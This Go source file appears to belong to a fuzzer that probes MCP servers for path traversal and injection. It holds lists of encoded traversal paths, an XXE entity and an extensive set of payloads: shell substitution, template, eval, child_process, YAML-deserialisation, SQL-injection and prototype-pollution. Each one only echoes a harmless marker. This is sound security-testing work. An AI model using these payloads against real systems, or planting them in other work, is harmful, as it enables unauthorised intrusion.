package mcp

import (
	"slices"
	"strconv"
	"strings"

	"github.com/teaselfuzz/teasel"
	"github.com/teaselfuzz/teasel/mutate"
)

// disguises are ways to write where the canary file is, and its directory. Steps up beyond the root of the file system lead to it, so that
// sixteen of them in front of an absolute path are a relative one from anywhere.
var disguises = slices.Concat(
	[]string{canaryPath, canaryRelative, canaryURI},
	climbing("../", "..\\", "....//", "..%2f", "%2e%2e/", "%2e%2e%2f", "%252e%252e%252f", "..%c0%af", "..;/", "\uff0e\uff0e/", ".\x00./"),
	whole("..%2f", "%2f"), whole("%2e%2e%2F", "%2F"), whole("..%252f", "%252f"),
	[]string{
		"./" + canaryRelative, "a/../" + canaryRelative, "/./" + canaryPath, "//" + canaryPath, canaryPath + "/.", canaryPath + "\x00.txt",
		canaryPath + "%00", "/proc/self/root" + canaryPath, "/proc/self/cwd/" + canaryRelative, "file://localhost" + canaryPath,
		"file:" + canaryPath, "file:///proc/self/root" + canaryPath, "FILE://" + canaryPath, " " + canaryPath, canaryPath + " ",
		"~/../../../../../.." + canaryPath, canaryDir, strings.Repeat("../", 16) + canaryDir, "file://" + canaryDir,
		`<!DOCTYPE t [<!ENTITY c SYSTEM "` + canaryURI + `">]><t>&c;</t>`, // for what reads XML
	},
	demanded(".md", ".json", ".yaml", ".csv", ".log", ".html", ".png", ".pdf"),
)

// boundaries lead out of an allowed directory where paths are compared by their beginnings, or links are not followed before.
var boundaries = []string{canarySibling, canarySibRel, "file://" + canarySibling, "./" + canarySibRel, "a/../" + canarySibRel, canaryLink, "file://" + canaryLink}

// demanded are paths for servers that ask for an extension before they read.
func demanded(extensions ...string) (paths []string) {
	for _, e := range extensions {
		paths = append(paths, canaryRelative+e)
	}
	return paths
}

func climbing(ups ...string) (paths []string) {
	for _, up := range ups {
		paths = append(paths, strings.Repeat(up, 16)+strings.TrimPrefix(canaryPath, "/"))
	}
	return paths
}

// whole writes every slash of the path in the same way: a variable of a URI template mostly must not have one.
func whole(up, slash string) []string {
	path := strings.ReplaceAll(canaryPath, "/", slash)
	return []string{path, strings.Repeat(up, 16) + strings.TrimPrefix(path, slash)}
}

// eachText passes on every place in a request that takes free text: arguments of tools and prompts, variables of URI
// templates.
func eachText(b *repertoire, visit func(name string, line func(text string) []byte)) {
	for _, t := range b.tools {
		t.eachText(t.Name, t.full, visit)
	}
	for i := range b.session.Templates {
		template := b.session.Templates[i].URI
		for _, v := range templateVariables(template) {
			visit(template+" "+v, func(text string) []byte {
				return requestLine("resources/read", object("uri", expandTemplate(template, func(name string) string {
					if name == v {
						return text
					}
					return b.likelyOr(name, "1")
				})))
			})
		}
	}
	for i := range b.session.Prompts {
		p := &b.session.Prompts[i]
		for _, a := range p.Arguments[:min(maxProbed, len(p.Arguments))] {
			visit(p.Name+" "+a.Name, func(text string) []byte {
				return promptLine(p, func(name string) string {
					if name == a.Name {
						return text
					}
					return b.likely(name)
				})
			})
		}
	}
}

// textPlace is a place in a request that takes free text, with what makes the request of a text.
type textPlace struct {
	name string
	line func(text string) []byte
}

// maxAttacked is in how many places the texts of security checks are tried before a campaign. Where there are more, some are
// drawn, and the others have their turn when checks are generated later.
const maxAttacked = 2048

// someTexts returns at most n of the places that take free text, every time others.
func someTexts(b *repertoire, r *teasel.Rand, n int) (places []textPlace) {
	eachText(b, func(name string, line func(string) []byte) { places = append(places, textPlace{name, line}) })
	if len(places) > n {
		r.Shuffle(len(places), func(i, k int) { places[i], places[k] = places[k], places[i] })
		places = places[:n]
	}
	return places
}

func eachOf(places []textPlace, visit func(name string, line func(text string) []byte)) {
	for _, p := range places {
		visit(p.name, p.line)
	}
}

// promptLine gets a prompt with all of its arguments.
func promptLine(p *Prompt, value func(argument string) string) []byte {
	arguments := mutate.NewObject()
	for _, a := range p.Arguments {
		arguments.Set(a.Name, mutate.NewString(value(a.Name)))
	}
	return requestLine("prompts/get", mutate.NewObject(member("name", mutate.NewString(p.Name)), member("arguments", arguments)))
}

// trying returns a visitor of places that tries texts there.
func trying(check string, texts []string, emit emitter) func(name string, line func(string) []byte) {
	return func(name string, line func(string) []byte) {
		var steps []Step
		for _, text := range texts {
			steps = append(steps, send(line(text)))
		}
		chunks(steps, chunk, func(part int, steps []Step) { emit(name+" "+strconv.Itoa(part), shared(check, steps...)) })
	}
}

func checkTraversalModes(b *repertoire, _ *teasel.Rand, emit emitter) {
	b.eachMode(trying(CheckTraversal, disguises, emit))
}

func checkInjectionModes(b *repertoire, _ *teasel.Rand, emit emitter) {
	b.eachMode(trying(CheckInjection, slices.Concat(injections, b.placeholders), emit))
}

func checkTraversal(b *repertoire, r *teasel.Rand, emit emitter) {
	places := someTexts(b, r, maxAttacked)
	eachOf(places, trying(CheckTraversal, disguises, emit))
	eachOf(places, trying(CheckTraversal, boundaries, func(name string, in Script) { emit(name+" boundary", in) }))
	if !b.session.Has("resources") {
		return
	}
	var steps []Step
	for _, path := range slices.Concat(disguises, boundaries) {
		steps = append(steps, send(requestLine("resources/read", object("uri", path))))
	}
	for _, base := range resourceBases(b.session) {
		for _, path := range disguises {
			steps = append(steps, send(requestLine("resources/read", object("uri", base+strings.TrimPrefix(path, "/")))))
		}
	}
	chunks(steps, chunk, func(part int, steps []Step) {
		emit("resources/read "+strconv.Itoa(part), shared(CheckTraversal, steps...))
	})
}

// resourceBases are the URIs of the resources up to their last slash, at most six of them.
func resourceBases(s *Session) (bases []string) {
	for _, list := range [][]Resource{s.Resources, s.Templates} {
		for i := range list {
			uri := list[i].URI
			cut := strings.LastIndexByte(uri, '/') + 1
			if brace := strings.IndexByte(uri, '{'); brace >= 0 && brace < cut {
				cut = strings.LastIndexByte(uri[:brace], '/') + 1
			}
			if base := uri[:cut]; base != "" && !slices.Contains(bases, base) && len(bases) < 6 {
				bases = append(bases, base)
			}
		}
	}
	return bases
}

// injections give [InjectionMarker] where they are evaluated: by a shell, a template engine, a database, an eval. They
// do nothing else.
var injections = func() (all []string) {
	const product = injectionA + "*" + injectionB
	const echo = "echo tzl$((" + product + "))lzt"
	for _, around := range []string{
		"$(#)", "`#`", ";#", ";#;", "|#", "||#", "&#", "&&#", "\n#\n", "a;#", "a|#", "a'; # #'", "a\"; # #\"", "a'$(#)'", "a\"$(#)\"",
		"';#;'", "\";#;\"", ")#", "a$(#)", "-e;#", "${IFS};#",
	} {
		all = append(all, strings.Replace(around, "#", echo, 1))
	}
	for _, around := range [][2]string{
		{"{{", "}}"}, {"${", "}"}, {"#{", "}"}, {"<%= ", " %>"}, {"*{", "}"}, {"@(", ")"}, {"{{=", "}}"}, {"[[", "]]"}, {"[[${", "}]]"},
		{"${{", "}}"}, {"%{", "}"}, {"{", "}"}, {"$[", "]"}, {"~{", "}"}, {"$((", "))"},
	} {
		all = append(all, "tzl"+around[0]+product+around[1]+"lzt")
	}
	return append(all,
		"'tzl'+("+product+")+'lzt'", `"tzl"+(`+product+`)+"lzt"`, "`tzl${"+product+"}lzt`", `'+'tzl'+(`+product+`)+'lzt'+'`, `"+"tzl"+(`+product+`)+"lzt"+"`,
		"'tzl'+str("+product+")+'lzt'", `f"tzl{`+product+`}lzt"`, "'tzl'.("+product+").'lzt'",
		"teasel: !!python/object/apply:builtins.eval [\"'tzl'+str("+product+")+'lzt'\"]", // for what reads YAML
		"__import__('os').popen('"+echo+"').read()", "require('child_process').execSync('"+echo+"').toString()",
		"process.mainModule.require('child_process').execSync('"+echo+"').toString()", "a' || 'tzl' || ("+product+") || 'lzt' || '",
		"a' UNION SELECT 'tzl' || ("+product+") || 'lzt' --", "a\" UNION SELECT 'tzl' || ("+product+") || 'lzt' --", "0 UNION SELECT 'tzl' || ("+product+") || 'lzt'",
		"a') UNION SELECT 'tzl' || ("+product+") || 'lzt' --", "CONCAT('tzl',"+product+",'lzt')", "a' AND extractvalue(1,concat('tzl',"+product+",'lzt')) AND 'a'='a",
	)
}()

// pollutions are texts that reach the prototype of all objects where JSON of a caller's is merged into something. They are
// no check: a server that has fallen for one shows that by what it does next.
var pollutions = []string{
	`{"__proto__":{"teasel":"polluted"}}`, `{"constructor":{"prototype":{"teasel":"polluted"}}}`,
	`{"__proto__":{"toString":"polluted","length":-1,"then":"polluted"}}`,
}

func checkInjection(b *repertoire, r *teasel.Rand, emit emitter) {
	eachOf(someTexts(b, r, maxAttacked), trying(CheckInjection, slices.Concat(injections, b.placeholders), emit))
}

// The texts for quotes are fewer than a chunk: all of one place are in one script.
func checkQuotes(b *repertoire, r *teasel.Rand, emit emitter) {
	eachOf(someTexts(b, r, maxAttacked), trying(CheckQuotes, quoteTexts(), emit))
}

func checkQuotesModes(b *repertoire, _ *teasel.Rand, emit emitter) {
	b.eachMode(trying(CheckQuotes, quoteTexts(), emit))
}
